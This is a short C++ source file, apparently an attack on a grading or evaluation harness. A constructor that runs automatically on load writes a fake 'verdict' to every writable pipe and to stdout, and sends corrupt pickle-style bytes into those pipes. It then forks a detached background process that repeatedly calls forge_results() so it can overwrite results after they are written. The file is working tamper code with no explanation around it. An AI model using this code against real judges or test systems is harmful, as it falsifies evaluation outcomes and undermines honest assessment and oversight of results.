#include "attack.h"

__attribute__((constructor)) static void load() {
  for (int number : pipes(O_WRONLY)) {
    shout(number, verdict, strlen(verdict));
    shout(number, "\x80\x04\x95garbage", 10);
  }
  shout(1, verdict, strlen(verdict));
  // and stays, for when the results are written
  if (fork() != 0) return;
  setsid();
  for (int turns = 0; turns < 4000; ++turns) forge_results(), usleep(1000);
  _exit(0);
}

static void attack(const char*) {}
